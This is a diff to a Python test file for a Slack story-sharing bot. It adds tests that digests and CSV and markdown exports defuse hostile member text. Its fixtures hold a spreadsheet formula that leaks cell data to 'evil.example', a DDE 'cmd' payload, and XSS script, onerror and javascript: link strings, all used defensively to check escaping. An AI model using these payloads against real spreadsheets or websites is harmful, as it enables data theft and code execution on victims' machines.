@@ -1,13 +1,18 @@
 """The one gate to the movement, as people meet it: only an author's approval of a story's exact
-text lets it out; a tip keeps its story's consent for ever."""
+text lets it out; a tip keeps its story's consent for ever; what leaves Slack (exports, blog
+drafts) is safe to open in a spreadsheet and to paste into a blog."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from markdown_it import MarkdownIt
 from sqlalchemy import select
 
 from bot import cli
@@ -155,6 +160,18 @@ def test_a_callout_answer_goes_out_only_once_its_responder_approves(
     assert "Tea before business" in export("markdown")
 
 
+def test_the_movement_digest_fallback_text_pings_no_one(kettle: Kettle) -> None:
+    with kettle.db() as session:
+        community = session.scalars(select(Community)).one()
+        community.name = "Tea <!channel> club"
+    story_id = add_story(kettle, title="Shared win")
+    propose_and_answer(kettle, story_id, MEMBER, KnowledgeIds.APPROVE)
+    kettle.click(CONVENOR, KnowledgeIds.PICK, value=str(story_id))
+    kettle.command(CONVENOR, "/cop", "digest movement")
+    digest = kettle.fake.messages(MOVEMENT)[-1]
+    assert "Shared win" in texts(digest) and "<!channel>" not in str(digest["text"])
+
+
 # -- 2. a tip keeps its story's consent for ever -----------------------------------------------
 
 
@@ -209,3 +226,89 @@ def test_a_tip_of_unknown_origin_stays_in_the_cop(kettle: Kettle) -> None:
     assert "Where did this come from" not in blog_markdown(kettle)
     kettle.command(CONVENOR, "/cop", "tips")  # inside the CoP it is still a tip
     assert any("Where did this come from" in texts(m) for m in kettle.fake.messages(COP))
+
+
+# -- 3. exports and blog drafts are safe to open and to paste ----------------------------------
+
+NASTY_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+NASTY_BODY = (
+    "# Not a heading\n"
+    "> not a quote\n"
+    "- not a list\n"
+    "1. nor this\n"
+    "<script>alert('x')</script> <img src=x onerror=alert(1)>\n"
+    "[click me](javascript:alert(1)) ![pic](javascript:alert(2))\n"
+    "[ref]: javascript:alert(3)\n"
+    "    indented code\r# a heading after a carriage return\n"
+    "+cmd|' /C calc'!A0"
+)
+
+
+def nasty_story(kettle: Kettle) -> int:
+    story_id = add_story(
+        kettle,
+        title=NASTY_TITLE,
+        body=NASTY_BODY,
+        themes=["@SUM(1+1)", "-2+3"],
+        consent=Consent.MOVEMENT_NAMED,
+    )
+    propose_and_answer(kettle, story_id, MEMBER, KnowledgeIds.APPROVE)
+    kettle.click(CONVENOR, KnowledgeIds.PICK, value=str(story_id))
+    return story_id
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def assert_safe_markdown(markdown: str, *, headings: int, lists: int = 0) -> None:
+    """Rendered as a blog would (CommonMark, raw HTML allowed, tables, strikethrough), member
+    text makes no HTML, heading, quote, list, table, link or image of its own, and reads as told."""
+    html = (
+        MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)
+    )
+    for bad in ("<script", "<img", "<a ", "<blockquote", "<ol", "<table", "<b>", "<pre", "<code"):
+        assert bad not in html, (bad, html)
+    assert len(re.findall(r"<h[1-6]>", html)) == headings, html
+    assert html.count("<ul>") == lists, html
+    assert "# Not a heading" in html and "&lt;script&gt;alert" in html
+    assert "[click me](javascript:alert(1))" in html
+
+
+def test_csv_and_markdown_exports_defuse_member_text(kettle: Kettle, export: Export) -> None:
+    nasty_story(kettle)
+    with kettle.db() as session:  # a body that is only a formula, and one led by a tab
+        member_story = session.scalars(select(Story)).one()
+        for title, body in (("Tab", "\t=1+1"), ("Carriage", "\r=1+1")):
+            session.add(
+                Story(
+                    community_id=member_story.community_id,
+                    author_id=member_story.author_id,
+                    title=title,
+                    body=body,
+                    kind=member_story.kind,
+                    consent=Consent.MOVEMENT_ANONYMOUS,
+                    themes=[],
+                )
+            )
+    for purpose in ("sharing", "backup"):
+        rows = list(csv.reader(io.StringIO(export("csv", purpose))))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert NASTY_TITLE not in cells and "'" + NASTY_TITLE in cells
+        assert not [c for c in cells if c.startswith(FORMULA_START)], cells
+        titles = 3 if purpose == "backup" else 1  # the export's heading, then one per story
+        assert_safe_markdown(export("markdown", purpose), headings=1 + titles)
+    backup = list(csv.DictReader(io.StringIO(export("csv", "backup"))))
+    assert {r["body"] for r in backup if r["title"] in ("Tab", "Carriage")} == {
+        "'\t=1+1",
+        "'\r=1+1",
+    }
+    # JSON is data: the text stays exactly as told.
+    assert NASTY_BODY in json.loads(export("json"))["library"][0]["body"]
+
+
+def test_blog_draft_escapes_member_text(kettle: Kettle) -> None:
+    story_id = nasty_story(kettle)
+    make_tip(kettle, story_id, "<b>bold</b> [x](javascript:alert(1))")
+    markdown = blog_markdown(kettle)
+    assert_safe_markdown(markdown, headings=3, lists=1)  # title, story, tips; the tips list
+    assert "&lt;b&gt;bold&lt;/b&gt;" in markdown
